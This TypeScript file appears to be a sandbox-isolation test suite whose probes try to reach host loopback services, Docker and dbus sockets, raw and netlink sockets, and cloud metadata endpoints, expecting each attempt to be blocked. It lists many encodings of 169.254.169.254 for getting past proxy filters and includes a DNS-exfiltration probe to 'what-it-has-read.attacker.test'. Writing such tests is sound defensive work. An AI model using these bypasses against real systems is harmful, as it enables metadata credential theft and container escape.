import type { Group, Probe } from "../attempt.ts";
import { attacker } from "../rig.ts";

export const sockets: Group = {
  name: "sockets and the host's loopback",
  attempts: [
    {
      name: "a service on the host's loopback",
      program: `
own = socket.create_server(("127.0.0.1", 0))
assert connecting(*own.getsockname()) == "allowed"
said = all_of({a: connecting(a, host["port"]) for a in ["127.0.0.1", "127.0.0.2", "127.1.2.3", "0.0.0.0"]})`,
      holds: "ECONNREFUSED",
    },
    {
      name: "that service through the proxy",
      program: `
names = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "loopback.test"]
said = all_of({n: tunnel(f'{n}:{host["port"]}') for n in names} | {n + " plainly": fetch(f'http://{n}:{host["port"]}/') for n in names})`,
      holds: "403",
    },
    {
      name: "an abstract socket of the host",
      program: `
own = socket.socket(socket.AF_UNIX); own.bind("\\0own"); own.listen()
other = socket.socket(socket.AF_UNIX); other.connect("\\0own")
said = attempt(socket.socket(socket.AF_UNIX).connect, "\\0" + host["abstract"])`,
      holds: "ECONNREFUSED",
    },
    {
      name: "the sockets of hands, of egress and of the machine's services",
      program: `
paths = [host["socket_path"], host["egress_socket"], "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
  "/run/systemd/private", "/run/systemd/notify", "/var/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432", "/run/containerd/containerd.sock"]
said = all_of({p: str(find(p) or attempt(socket.socket(socket.AF_UNIX).connect, p)) for p in paths})`,
      holds: "ENOENT",
    },
    {
      name: "networks beside the loopback",
      program: `
names = {name for _, name in socket.if_nameindex()}
assert "lo" in names
routes = open("/proc/net/route").read().splitlines()[1:]
said = sorted(names - {"lo"}) or routes or "none"`,
      holds: "none",
    },
    {
      name: "addresses beyond it",
      leaves: true,
      program: `
said = all_of({a: connecting(a, 80) for a in ["10.0.0.1", "192.168.0.1", "172.17.0.1", "1.1.1.1"]} | {"udp": connecting("1.1.1.1", 123, socket.SOCK_DGRAM)})`,
      holds: "ENETUNREACH",
    },
    {
      name: "IPv6 addresses beyond it",
      leaves: true,
      program: `
said = all_of({a: connecting(a, 80, family=socket.AF_INET6) for a in ["2606:4700:4700::1111", "fe80::1", "ff02::1"]})`,
      holds:
        /^(ENETUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT|\{("[^"]+": "(ENETUNREACH|EADDRNOTAVAIL|EINVAL)"(, )?)+\})$/,
    },
    {
      name: "kinds of sockets that no namespace holds",
      program: `
families = {"vsock": 40, "packet": 17, "alg": 38, "bluetooth": 31, "can": 29, "key": 15, "tipc": 30, "xdp": 44, "rds": 21, "nfc": 39, "qipcrtr": 42, "kcm": 41, "smc": 43, "ax25": 3, "llc": 26}
socket.socket(socket.AF_UNIX)
said = all_of({name: attempt(socket.socket, family, kind) for name, family in families.items() for kind in [socket.SOCK_STREAM, socket.SOCK_DGRAM]})`,
      holds: "EAFNOSUPPORT",
    },
    {
      name: "raw sockets",
      program: `
said = all_of({str(p): attempt(socket.socket, f, socket.SOCK_RAW, p) for f in [socket.AF_INET, socket.AF_INET6] for p in [1, 6, 17, 58]})`,
      holds: "EPERM",
    },
    {
      name: "protocols whose modules the kernel would load",
      program: `
socket.socket(socket.AF_INET, socket.SOCK_STREAM, 6)
said = all_of({str(p): attempt(socket.socket, socket.AF_INET, socket.SOCK_STREAM, p) for p in [132, 33, 262, 136]})`,
      holds: "EPROTONOSUPPORT",
    },
    {
      name: "netlink: netfilter, audit, uevents, crypto, connector",
      program: `
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
said = all_of({str(n): attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, n) for n in [2, 4, 6, 7, 9, 10, 11, 12, 15, 16, 20, 21]})`,
      holds: "EAFNOSUPPORT",
    },
    {
      name: "new interfaces and routes",
      program: `
def asking(kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as it:
        it.send(struct.pack("<IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
        answer = it.recv(4096)
        return errno.errorcode.get(-struct.unpack_from("<i", answer, 16)[0], "allowed")
RTM_NEWLINK, RTM_NEWADDR, RTM_NEWROUTE = 16, 20, 24
dummy = struct.pack("<HH", 10, 3) + b"dum0\\0\\0\\0\\0"
said = all_of({
  "link": asking(RTM_NEWLINK, bytes(16) + dummy), "address": asking(RTM_NEWADDR, struct.pack("<BBBBI", 2, 8, 0, 0, 1)),
  "route": asking(RTM_NEWROUTE, struct.pack("<BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0))})`,
      holds: "EPERM",
    },
    {
      name: "taking the loopback down, or listening to it",
      program: `
it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
SIOCGIFFLAGS, SIOCSIFFLAGS = 0x8913, 0x8914
flags = fcntl.ioctl(it, SIOCGIFFLAGS, struct.pack("16sh14x", b"lo", 0))
said = attempt(fcntl.ioctl, it, SIOCSIFFLAGS, flags)`,
      holds: "EPERM",
    },
    {
      name: "taking the place of the proxy and of the name server",
      program: `
def taking(port, kind):
    with socket.socket(socket.AF_INET, kind) as it:
        it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        it.bind(("127.0.0.1", port))
        if kind == socket.SOCK_STREAM: it.listen()
said = all_of({"proxy": attempt(taking, 3128, socket.SOCK_STREAM), "names": attempt(taking, 53, socket.SOCK_DGRAM)})`,
      holds: /^(EADDRINUSE|\{"proxy": "EADDRINUSE", "names": "(EACCES|EADDRINUSE)"\})$/,
    },
  ],
};

const metadata = {
  "as it is": "169.254.169.254",
  "as one number": "2852039166",
  "in hexadecimal": "0xa9fea9fe",
  "in octal": "0251.0376.0251.0376",
  "mixed and short": "169.254.43518",
  "with a dot at the end": "169.254.169.254.",
  "in IPv6": "[::ffff:169.254.169.254]",
  "in IPv6, in hexadecimal": "[::ffff:a9fe:a9fe]",
  "by the old notation of IPv6": "[::169.254.169.254]",
  "behind a translator": "[64:ff9b::a9fe:a9fe]",
  "by 6to4": "[2002:a9fe:a9fe::1]",
  "with a zone": "[fe80::a9fe:a9fe%25lo]",
  "of containers": "169.254.170.2",
  "by IPv6 of its own": "[fd00:ec2::254]",
  "of another cloud": "100.100.100.200",
  "of a third": "168.63.129.16",
  "of a fourth": "192.0.0.192",
  "by a name that leads there": "metadata.test",
  "by a name that leads there too": "mixed.test",
  "by a name in capitals": "METADATA.TEST",
};

export const cloud: Group = {
  name: "cloud metadata addresses",
  attempts: [
    {
      name: "directly",
      leaves: true,
      program: `said = all_of({a: connecting(a, 80) for a in ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16"]})`,
      holds: "ENETUNREACH",
    },
    ...Object.entries(metadata).map(
      ([how, address]): Probe => ({
        name: `through the proxy, ${how}`,
        program: `
name = ${JSON.stringify(address)}
said = all_of({"tunnel": tunnel(name + ":80"), "plainly": fetch(f"http://{name}/latest/meta-data/", **{"Metadata-Flavor": "Google"}), "tls": tunnel(name + ":443")})`,
        // No address at all, or one that is closed.
        holds: /^40[03]$/,
      }),
    ),
    {
      name: "through the proxy, behind a user's name",
      program: `said = all_of({u: fetch(u) for u in ["http://example.com@169.254.169.254/", "http://169.254.169.254#@example.com/", "http://169.254.169.254\\\\@example.com/"]})`,
      holds: /^(403|400|\{("[^"]+": "(403|400)"(, )?)+\})$/,
    },
    {
      name: "through the proxy, named in the Host header alone",
      program: `
said = through_proxy("GET http://nowhere.test/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n")`,
      holds: /^(400|403|502|503)$/,
    },
    {
      name: "without a proxy, by the name in the request",
      program: `
def plainly(name):
    with socket.create_connection((socket.gethostbyname("example.com"), 80), 5) as it:
        it.sendall(f"GET / HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode())
        return it.recv(4096).decode().split(" ")[1]
said = all_of({name: plainly(name) for name in ["169.254.169.254", "metadata.test", "127.0.0.1", "localhost"]})`,
      holds: "403",
    },
    {
      name: "without a proxy, by the name at the beginning of TLS",
      program: `
def named(name):
    sni = struct.pack(">HHBH", 0, len(name) + 5, 0, len(name)) 
    inner = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name.encode()
    extensions = struct.pack(">HH", 0, len(inner)) + inner
    body = b"\\x03\\x03" + bytes(32) + b"\\x00" + b"\\x00\\x02\\x13\\x01" + b"\\x01\\x00" + struct.pack(">H", len(extensions)) + extensions
    hello = b"\\x01" + struct.pack(">I", len(body))[1:] + body
    with socket.create_connection((socket.gethostbyname("example.com"), 443), 5) as it:
        it.sendall(b"\\x16\\x03\\x01" + struct.pack(">H", len(hello)) + hello)
        it.settimeout(5)
        try: return "closed" if len(it.recv(4096)) < 100 else "answered"
        except ConnectionResetError: return "closed"
said = all_of({name: named(name) for name in ["169.254.169.254", "metadata.test", "loopback.test"]})`,
      holds: "closed",
    },
  ],
};

const ask = `
def ask(server, name, kind=1, tcp=False):
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as it:
        it.settimeout(3)
        it.connect((server, 53))
        it.send(struct.pack(">H", len(question)) + question if tcp else question)
        return it.recv(4096)
`;

export const dns: Group = {
  name: "DNS",
  attempts: [
    {
      name: "a tunnel: what is asked for leaves the sandbox",
      async attack(rig) {
        const name = "what-it-has-read.attacker.test";
        const found = await rig.sh(attacker, `getent hosts ${name} | cut -d ' ' -f 1`);
        if (!found.startsWith("127.")) return `broken: ${found}`;
        return rig.resolved.includes(name) ? "it was asked for" : "nobody was asked";
      },
      holds: "nobody was asked",
    },
    {
      name: "what comes back beside addresses",
      program: `${ask}
assert len(ask("127.0.0.1", "example.com")) > 40
said = all_of({str(kind): struct.unpack_from(">H", ask("127.0.0.1", "example.com", kind), 6)[0] for kind in [16, 15, 5, 33, 65, 255]})`,
      holds: "0",
    },
    {
      name: "other name servers",
      leaves: true,
      program: `${ask}
said = all_of({f"{a} {tcp}": attempt(ask, a, "example.com", 1, tcp) for a in ["1.1.1.1", "8.8.8.8", "169.254.169.253"] for tcp in [False, True]})`,
      holds: "ENETUNREACH",
    },
    {
      name: "the port of name servers, through the proxy",
      program: `said = all_of({a: tunnel(a) for a in ["1.1.1.1:53", "dns.example.com:53", "1.1.1.1:853", "8.8.8.8:53"]})`,
      holds: "403",
    },
    {
      name: "names in the network around it (mDNS, LLMNR)",
      leaves: true,
      program: `said = all_of({a: connecting(a, p, socket.SOCK_DGRAM) for a, p in [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("255.255.255.255", 137)]})`,
      holds: /^(ENETUNREACH|\{("[^"]+": "(ENETUNREACH|EACCES)"(, )?)+\})$/,
    },
    {
      name: "a name that leads to a private network",
      program: `said = all_of({"tunnel": tunnel("private.test:80"), "plainly": fetch("http://private.test/")})`,
      holds: "403",
    },
    {
      name: "questions that are none",
      program: `${ask}
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
    it.connect(("127.0.0.1", 53))
    for junk in [b"", b"\\0", b"\\xff" * 12, bytes(12) + b"\\xc0\\x0c" * 50, b"\\0\\1\\1\\0\\xff\\xff" + bytes(6) + b"\\x3f" * 400, os.urandom(500)]:
        attempt(it.send, junk)
said = "answers" if len(ask("127.0.0.1", "example.com")) > 40 else "silent"`,
      holds: "answers",
    },
  ],
};
